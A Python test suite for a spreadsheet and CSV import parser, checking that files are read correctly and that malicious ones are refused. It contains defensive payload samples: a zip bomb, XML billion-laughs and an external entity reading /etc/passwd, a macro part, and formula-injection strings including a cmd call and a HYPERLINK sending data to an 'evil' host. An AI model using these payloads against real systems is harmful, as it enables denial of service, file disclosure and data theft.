"""Files made to harm, and files that only went wrong: refused with a reason, in little memory, nothing written."""

import csv
import io
import resource
import time
import zipfile
from datetime import date, datetime
from decimal import Decimal

import pytest
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st

from collab.forms.directory import OrganizationForm
from metrics.exchange.cells import Known, day, moment, number, text, url
from metrics.exchange.reasons import Wrong
from metrics.exchange.sheets import open_sheet
from metrics.exchange.workbook import FileRefused
from tests import factories

GIGABYTE = 1024**3


def book(rows: list[list[object]], **options: object) -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, options) as made:
        sheet = made.add_worksheet()
        style = made.add_format({"num_format": "yyyy-mm-dd"})
        for at, row in enumerate(rows):
            for place, cell in enumerate(row):
                if isinstance(cell, date):
                    sheet.write_datetime(at, place, datetime(cell.year, cell.month, cell.day), style)
                else:
                    sheet.write(at, place, cell)
    return out.getvalue()


def changed(data: bytes, **parts: bytes | None) -> bytes:
    """The same workbook with other parts; names with __ for / and _dot_ for a point."""
    wanted = {name.replace("__", "/").replace("_dot_", "."): value for name, value in parts.items()}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            if entry.filename not in wanted:
                new.writestr(entry.filename, old.read(entry.filename))
        for name, value in wanted.items():
            if value is not None:
                new.writestr(name, value)
    return out.getvalue()


PLAIN = book([["Name", "Place"], ["Mill", "Lima"]])
SHEET = zipfile.ZipFile(io.BytesIO(PLAIN)).read("xl/worksheets/sheet1.xml")


def bomb() -> bytes:
    return changed(PLAIN, xl__worksheets__sheet1_dot_xml=SHEET + b" " * (90 * 1024 * 1024))


def nested() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as pack:
        pack.writestr("inner.zip", PLAIN)
    return out.getvalue()


def entries() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as pack:
        for n in range(20_000):
            pack.writestr(str(n), b"")
    return out.getvalue()


def sheet(old: bytes, new: bytes) -> bytes:
    return changed(PLAIN, xl__worksheets__sheet1_dot_xml=SHEET.replace(old, new))


LAUGHS = b'<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><worksheet'
AWAY = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet'
REFUSED = {
    "zip bomb": (bomb, "unpacks to far more"),
    "nested zip": (nested, "not an Excel file"),
    "a thousand parts": (entries, "more than 1,000 parts"),
    "cells far away": (lambda: sheet(b'r="B2"', b'r="XFD1048576"'), "too large"),
    "a wide rectangle": (lambda: sheet(b'r="B2"', b'r="SF100001"'), "too large"),
    "a column of five letters": (lambda: sheet(b'r="B2"', b'r="ABCDE2"'), "too large"),
    "zeros before a row": (lambda: sheet(b'r="B2"', b'r="SF0000000000100001"'), "too large"),
    "cells that do not say where": (
        lambda: sheet(
            b"<sheetData>",
            b"<sheetData><row>" + b"<c/>" * 700 + b"<c><v>1</v></c></row>" + b"<row><c><v>1</v></c></row>" * 5_000,
        ),
        "too large",
    ),
    "cells that only seem to say where": (
        lambda: sheet(
            b"<sheetData>",
            b"<sheetData><row>"
            + b"<c x:r='A1'/>" * 700
            + b"<c><v>1</v></c></row>"
            + b"<row><c s=' r=1'><v>1</v></c></row>" * 5_000,
        ),
        "too large",
    ),
    "a reference that never ends": (
        lambda: sheet(b'r="B2"', b'r="A' + b"0" * 2_000 + b'2"'),
        "instructions that no table needs",
    ),
    "a hidden reference": (lambda: sheet(b'r="B2"', b'r="&#88;FD1048576"'), "instructions that no table needs"),
    "billion laughs": (lambda: sheet(b"<worksheet", LAUGHS), "instructions that no table needs"),
    "external entity": (lambda: sheet(b"<worksheet", AWAY), "instructions that no table needs"),
    "macros": (lambda: changed(PLAIN, xl__vbaProject_dot_bin=b"x"), "macros"),
    "old Excel": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "old Excel"),
    "locked by a password": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512 + "EncryptedPackage".encode("utf-16-le"),
        "password",
    ),
    "HTML as Excel": (lambda: b"<html><table><tr><td>Name</td></tr></table>", "web page"),
    "PDF": (lambda: b"%PDF-1.7 ...", "PDF"),
    "cut off": (lambda: PLAIN[:-400], "damaged"),
    "no workbook": (lambda: changed(PLAIN, xl__workbook_dot_xml=None), "not an Excel file"),
    "NUL": (lambda: b"Name\nMi\0ll\n", "NUL"),
    "bytes": (lambda: b"\x81\x00\xff\xfe" * 50, "no text"),
    "one long line": (lambda: b"x" * (9 * 1024 * 1024), "cannot be read"),
    "too large": (lambda: b"x" * (11 * 1024 * 1024), "larger than 10 MB"),
    "open quotation mark": (lambda: b'Name,Place\nMill,"Lima\n' + b"a,b\n" * 5, "quotation mark"),
    "20,000 columns": (lambda: b",".join(b"c%d" % n for n in range(20_000)) + b"\n1\n", "200 columns"),
    "100,001 rows": (lambda: b"Name\n" + b"".join(b"%d\n" % n for n in range(100_001)), "100,000 rows"),
    "empty": (lambda: b"", "empty"),
    "only a head": (lambda: b"Name,Place\n", "empty"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_bad_file_is_refused_soon_with_a_reason_and_in_little_memory(name: str):
    make, reason = REFUSED[name]
    data = make()
    before, began = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.monotonic()
    with pytest.raises(FileRefused, match=reason):
        list(open_sheet(data).rows())
    assert time.monotonic() - began < 10
    assert (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) * 1024 < GIGABYTE / 4


READ = {
    "UTF-8 with a mark": "\ufeffName,Place\nMúll,Lima\n".encode(),
    "UTF-16": "Name,Place\nMúll,Lima\n".encode("utf-16"),
    "Windows": "Name,Place\nMúll,Lima\n".encode("cp1252"),
    "semicolons": "Name;Place\nMúll;Lima\n".encode(),
    "tabs": "Name\tPlace\nMúll\tLima\n".encode(),
    "line ends of all kinds": b"Name,Place\r\nM\xc3\xball,Lima\r\n",
    "old line ends": b"Name,Place\rM\xc3\xball,Lima\r",
    "empty lines": "\n\nName,Place\n\nMúll,Lima\n\n".encode(),
    "Excel": book([["Name", "Place"], ["Múll", "Lima"]]),
    "links to other workbooks": changed(
        book([["Name", "Place"], ["Múll", "Lima"]]),
        xl__externalLinks__externalLink1_dot_xml=b'<externalLink><externalBook r:id="rId1"/></externalLink>',
        xl__externalLinks___rels__externalLink1_dot_xml_dot_rels=b'<Relationships><Relationship Id="rId1"'
        b' Target="http://127.0.0.1/evil.xlsx" TargetMode="External"/></Relationships>',
    ),
}


@pytest.mark.parametrize("name", READ)
def test_a_table_is_read_however_it_was_saved(name: str):
    found = open_sheet(READ[name])
    assert found.headers == ["Name", "Place"]
    assert [row for _number, row in found.rows()] == [["Múll", "Lima"]]


def test_rows_of_unequal_length_are_read_as_far_as_they_go():
    found = open_sheet(b"Name,Place,Web\na\nb,Lima,x,more,and more\n")
    assert [row for _number, row in found.rows()] == [["a"], ["b", "Lima", "x", "more", "and more"]]


def test_rows_have_the_numbers_of_the_spreadsheet():
    assert [number for number, _row in open_sheet(b'Name,Note\na,"two\nlines"\n\nb,\n').rows()] == [2, 5]
    assert [number for number, _row in open_sheet(book([["Name"], ["a"], [""], ["b"]])).rows()] == [2, 4]


@pytest.mark.parametrize("base", [False, True])
def test_days_of_excel_are_days_in_both_of_its_calendars(base: bool):
    cells = next(open_sheet(book([["Day"], [date(2025, 3, 31)]], date_1904=base)).rows())[1]
    assert day(cells[0], known()) == "2025-03-31"


def test_formulas_give_their_value_and_run_nothing():
    cells = next(open_sheet(book([["Name", "Sum"], ["a", "=1+1"]])).rows())[1]
    assert cells[1] in (0, 0.0, "0", "")  # what was stored with it; nobody computes


def known(**values: object) -> Known:
    one = factories.Collaboration(time_zone="America/Lima")
    return Known(today=date(2026, 1, 1), zone=one.zone, **values)  # type: ignore[arg-type]


def test_cells_are_read_as_people_write_them():
    assert number(0, 9999, 2)("1.234,56", known(comma=True)) == "1234.56"
    assert number(0, 9999, 2)("1,234.56", known()) == "1234.56"
    assert day("31.12.2025", known()) == day("12/31/2025", known(day_first=False)) == "2025-12-31"
    assert moment("2025-03-31 14:30", known()) == "2025-03-31T19:30:00+00:00"
    assert moment("2025-03-31T14:30:00Z", known()) == "2025-03-31T14:30:00+00:00"
    assert url("mill.example.org", known()) == "https://mill.example.org"


HOSTILE = ["=1+1", '=HYPERLINK("http://evil?"&A1)', "=cmd|'/c calc'!A0", "+1", "@SUM(1)", "＝1"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_that_looks_like_a_formula_is_text_in_and_out(cell: str):
    from collab.tables import csv_text  # noqa: PLC0415

    assert text(60)(cell, known()) == cell
    out = csv_text(["Name"], [[cell]])
    guarded = list(csv.reader(io.StringIO(out.removeprefix("\ufeff"))))[1][0]
    assert guarded == f"'{cell}"
    assert text(60)(guarded, known()) == cell  # our own export comes back as it was


@pytest.mark.parametrize("cell", ["a\u202eb", "a\x07b", "\x1b[31m"])
def test_signs_that_nobody_sees_are_refused(cell: str):
    with pytest.raises(Wrong, match="signs"):
        text(60)(cell, known())


@pytest.mark.parametrize("cell", ["31.02.2025", "tomorrow", "2025-13-01", "1800-01-01", "9" * 400])
def test_what_is_no_day_is_refused(cell: str):
    with pytest.raises(Wrong, match="day"):
        day(cell, known())


@pytest.mark.parametrize(
    "cell",
    [
        "javascript:alert(1)", "http://", "a b", "ftp://x.example", "my_host.example", "https://bank.example@evil.example",
        "https://-a.example", "localhost", "1.2",
    ],
)  # fmt: skip
def test_what_is_no_website_is_refused(cell: str):
    with pytest.raises(Wrong, match="url"):
        url(cell, known())


@pytest.mark.parametrize(
    "cell", ["medium.example/@mill", "HTTPS://Mill.Example/a?b=c#d", "http://münchen.example", "10.0.0.1:8000/x"]
)
def test_what_is_a_website_is_taken(cell: str):
    assert url(cell, known()) == (cell if "://" in cell else f"https://{cell}")


@given(
    st.from_regex(r"(https?://)?[a-zA-Z0-9_.@-]{1,30}\.[a-z]{1,4}(:[0-9]{1,6})?([/?#][a-z@<>'&=_]*)?", fullmatch=True)
)
def test_a_website_that_is_taken_can_be_changed_in_its_form(cell: str):
    try:
        taken = url(cell, known())
    except Wrong:
        return
    assert OrganizationForm.base_fields["website"].clean(taken) == taken


@pytest.mark.parametrize("cell", ["NaN", "1e400", "Infinity", "-1", "ten", "1" * 5000])
def test_what_is_no_number_in_bounds_is_refused(cell: str):
    with pytest.raises(Wrong):
        number(0, 9999, 2)(cell, known())


@pytest.mark.parametrize(
    "cell",
    [
        "2025-03-04", "04/03/2025", "4.3.2025", "4/3/25", "2025/03/04", "20250304", "2025-03-04 00:00:00",
        "4 de marzo de 2025", "4 mar 2025", "4. März 2025", "Mar 4, 2025", "4th March 2025", "4 de Março de 2025",
    ],
)  # fmt: skip
def test_a_day_is_read_however_people_write_it(cell: str):
    assert day(cell, known()) == "2025-03-04"


@pytest.mark.parametrize(
    ("cell", "comma", "read"),
    [
        ("1.234,50", True, "1234.50"), ("1234.5", True, "1234.50"), ("1.000", True, "1000.00"), ("2,5", False, "2.50"),
        ("1,000", False, "1000.00"), ("1 000", False, "1000.00"), ("1,234.5", True, "1234.50"),
        ("$1,000", False, "1000.00"), ("MXN 500", False, "500.00"), ("1.234,5 €", True, "1234.50"),
    ],
)  # fmt: skip
def test_a_number_is_never_read_a_thousand_times_too_large(cell: str, comma: bool, read: str):
    assert number(0, 9_999, 2)(cell, known(comma=comma)) == str(round(Decimal(read), 2))
